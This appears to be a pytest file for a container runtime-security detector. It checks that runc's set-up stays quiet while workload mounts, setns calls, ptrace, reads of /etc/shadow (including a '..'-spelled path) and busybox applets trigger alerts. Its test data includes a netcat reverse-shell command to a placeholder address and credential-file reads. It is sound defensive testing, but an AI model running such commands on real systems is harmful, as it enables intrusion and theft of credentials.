"""What a new user met running the node collector on ordinary containers (issue 13): runc's own set-up raised
critical alerts, titles began with an empty program name, busybox applets were invisible to detections keyed on
the program, and a path spelled with ``..`` escaped the detections. Each test replays the sensor's records through
the real eBPF source and the whole library."""

from __future__ import annotations

from typing import Any

import pytest

from vigil.alert import Alert
from vigil.detections.engine import Engine
from vigil.detections.sdk import EventDetection
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Actor, Event
from vigil.sources.fixtures import EXAMPLE_START_NS, in_pod
from vigil.sources.source import get_source
from vigil.sources.tetragon.fixtures import tetragon_record


@pytest.fixture
def engine() -> Engine:
    """A fresh engine per test: an alert one test opened would otherwise swallow the next test's repeat."""
    loaded = Engine.load()
    assert not loaded.errors, loaded.errors
    return loaded


def sensor_record(record_type: str, comm: str, **fields: Any) -> dict[str, Any]:
    """A sensor record of ``record_type`` by a process named ``comm`` in a pod (no exe path: only execs carry one)."""
    return in_pod({"type": record_type, "time_ns": EXAMPLE_START_NS, "pid": 5120, "tid": 5120, "ppid": 5101,
                   "uid": 0, "gid": 0, "comm": comm, "cgroup_id": 7301, **fields})


def alerts_of(engine: Engine, *records: dict[str, Any]) -> list[Alert]:
    source = get_source("ebpf")
    events = [source.normalize(record, "c", "worker-1") for record in records]
    return engine.process_many(events) + engine.flush()


def runc_container_start() -> list[dict[str, Any]]:
    """What runc's init does in a new container's cgroup before the workload runs, as the sensor recorded it."""
    rootfs = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/3f1c/rootfs"
    mounts = [("", "/", ""), (rootfs, rootfs, ""), ("proc", "/proc", "proc"), ("tmpfs", "/dev", "tmpfs"),
              ("mqueue", "/dev/mqueue", "mqueue"), ("sysfs", "/sys", "sysfs"), ("cgroup", "/sys/fs/cgroup", "cgroup2")]
    setns = [sensor_record("ns_change", "runc:[1:CHILD]", call="setns", flags=flag, namespaces=[name], fd=3)
             for flag, name in ((0x40000000, "net"), (0x08000000, "ipc"), (0x04000000, "uts"))]
    return setns + [sensor_record("mount", "runc:[2:INIT]", flags=0, source=src, target=target, fstype=fstype)
                    for src, target, fstype in mounts]


def test_runcs_own_set_up_of_a_container_raises_nothing(engine: Engine) -> None:
    assert alerts_of(engine, *runc_container_start()) == []


def test_the_workloads_own_mount_and_setns_still_fire_and_the_titles_name_the_program(engine: Engine) -> None:
    alerts = alerts_of(
        engine,
        sensor_record("mount", "mount", flags=0, source="/dev/sda1", target="/mnt/host", fstype="ext4"),
        sensor_record("ns_change", "escape", call="setns", flags=0x00020000, namespaces=["mnt"], fd=4),
    )
    titles = {a.detection: a.title for a in alerts}

    assert titles["runtime.host_mount_in_container"].startswith("mount mounted /dev/sda1 in shop/")
    assert titles["runtime.nsenter_host_namespaces"].startswith("escape entered other namespaces (setns)")


def test_ptrace_and_file_open_titles_name_the_program(engine: Engine) -> None:
    alerts = alerts_of(
        engine,
        sensor_record("ptrace", "gdb", request="attach", target_pid=1),
        sensor_record("open", "cat", flags=0, mode=0, path="/etc/shadow", repeats=0),
    )
    titles = {a.detection: a.title for a in alerts}

    assert titles["runtime.ptrace_in_container"].startswith("gdb used ptrace (attach)")
    assert titles["runtime.sensitive_file_read"].startswith("cat read shadow /etc/shadow")


def test_a_title_never_starts_with_an_empty_program_name() -> None:
    detection = EventDetection(id="t.title", title="t", description="d", severity="low", kinds=["fs.mount"],
                               match=lambda event: True, alert_title="{program} mounted")
    (alert,) = detection.evaluate(Event(id="e", time_ns=1, source="ebpf", kind="fs.mount", actor=Actor(pid=3)))
    assert alert.title == "an unnamed process mounted"


@pytest.mark.parametrize(("exe", "args", "program"), [
    ("/bin/busybox", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "nc"),
    ("/bin/busybox", ["/bin/sh", "-i"], "sh"),
    ("/bin/busybox", ["busybox", "wget", "http://x"], "wget"),
    ("/bin/busybox", ["busybox"], "busybox"),
    ("/usr/bin/nc", ["netcat"], "nc"),
    ("", [], ""),
])
def test_a_busybox_applet_is_the_program_argv_names(exe: str, args: list[str], program: str) -> None:
    assert program_name(Event(id="e", time_ns=1, source="ebpf", kind="process.exec",
                              actor=Actor(exe=exe, args=args))) == program


def test_busybox_applets_reach_the_detections_keyed_on_their_names(engine: Engine) -> None:
    exec_ = sensor_record("exec", "nc", exe="/bin/busybox", args=["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
                          cwd="/", parent_exe="/bin/busybox", euid=0, egid=0)
    shell = sensor_record("exec", "sh", exe="/bin/busybox", args=["sh"], cwd="/", parent_exe="/usr/bin/runc",
                          euid=0, egid=0)
    fired = {a.detection for a in alerts_of(engine, exec_, shell)}

    assert {"runtime.reverse_shell", "runtime.shell_in_container"} <= fired


def test_a_path_spelled_with_dot_dot_is_the_file_it_resolves_to(engine: Engine) -> None:
    record = sensor_record("open", "cat", flags=0, mode=0, path="/etc/../etc//./shadow", repeats=0)
    event = get_source("ebpf").normalize(record, "c", "worker-1")

    assert (event.target.path, event.file.path) == ("/etc/shadow", "/etc/shadow")
    assert "runtime.sensitive_file_read" in {a.detection for a in alerts_of(engine, record)}


def test_a_container_known_only_by_its_runtime_id_is_still_a_container(engine: Engine) -> None:
    """Tetragon names a container without pod metadata by its docker id alone (container.id, no k8s part)."""
    record = tetragon_record(binary="/bin/bash", host=True)
    record["process_exec"]["process"]["docker"] = "3f1c2a9b7d10aa1"
    event = get_source("tetragon").normalize(record, "c", "worker-1")
    assert (event.container.id, event.k8s.container_id) == ("3f1c2a9b7d10aa1", "")

    (alert,) = engine.process_many([event]) + engine.flush()
    assert (alert.detection, alert.title) == (
        "runtime.shell_in_container", "Interactive shell bash in container 3f1c2a9b7d10")
